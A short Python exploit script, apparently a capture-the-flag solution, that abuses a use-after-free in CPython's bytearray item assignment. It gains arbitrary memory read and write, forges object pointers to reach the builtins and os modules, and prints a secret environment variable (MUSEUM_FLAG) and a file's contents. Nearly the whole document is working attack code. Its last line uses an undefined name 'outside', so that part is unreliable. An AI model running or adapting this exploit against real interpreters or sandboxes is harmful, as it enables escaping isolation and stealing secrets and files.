# A bytearray's item is set by an index whose __index__ empties the bytearray meanwhile. The byte
# is then written to memory that belongs to another object by now.
import json

# So many that the allocator has hardly a gap of 56 bytes left: that much a bytearray takes, and so
# does the buffer of one with 56 bytes.
full = [bytearray(56) for _ in range(1000)]
newcomers = [None] * 1000
victim = bytearray(56)


class Index:
    def __index__(self):
        # The buffer is given back, and one of a thousand empty bytearrays moves in. Then the buffer
        # grows again elsewhere, so that the length looks right.
        victim.clear()
        for place in range(1000):
            newcomers[place] = bytearray()
        victim.extend(bytes(56))
        return 1


# The value 1 comes from Index, and goes to byte 23 of the old buffer. There that newcomer has the
# highest byte of its length, which is now 2 ** 56. And its buffer begins at address 0.
victim[23] = Index()
everything = next(found for found in newcomers if found)


def conjure(address):
    """What the pointer at an address points to, as an object."""
    box = [None]
    # A list's pointer to its items is 24 bytes from its start: let the items be at the address.
    field = id(box) + 24
    items = everything[field:field + 8]
    everything[field:field + 8] = address.to_bytes(8, "little")
    found = box[0]
    everything[field:field + 8] = items
    return found


# A function's first field, 16 bytes from its start, is the dict of its module's globals.
library = conjure(id(json.dumps) + 16)
builtins = library["__builtins__"]
os = builtins["__import__"]("sys").modules["os"]

print(os.environ["MUSEUM_FLAG"], flush=True)
print(builtins["open"](outside["file"]).read())
